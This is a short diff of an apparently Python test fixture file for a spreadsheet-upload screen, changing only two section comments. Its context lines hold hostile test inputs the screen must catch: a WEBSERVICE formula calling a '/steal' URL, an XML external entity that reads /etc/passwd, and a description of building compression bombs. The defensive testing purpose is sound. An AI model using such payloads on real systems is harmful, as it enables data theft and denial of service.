@@ -392,7 +392,7 @@ def formula_text_result(d: Path) -> Path:
     )
 
 
-# --- what the screen must find, however it is disguised (issue 24) ----------------------------
+# --- what the screen must find, however it is disguised -----------------------------
 
 WEB = 'WEBSERVICE("http://127.0.0.1:9/steal")'
 _DOCTYPE = '<!DOCTYPE worksheet [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
@@ -540,7 +540,7 @@ SCREENED = {
 }
 
 
-# --- resource bombs under the 1000:1 compression limit (issue 24) -------------------------------
+# --- resource bombs under the 1000:1 compression limit --------------------------------
 # Each is written piece by piece (never held whole) with a little randomness, so that it deflates
 # about a hundred to one like the red team's files, not a thousand (the zip-bomb check).
 
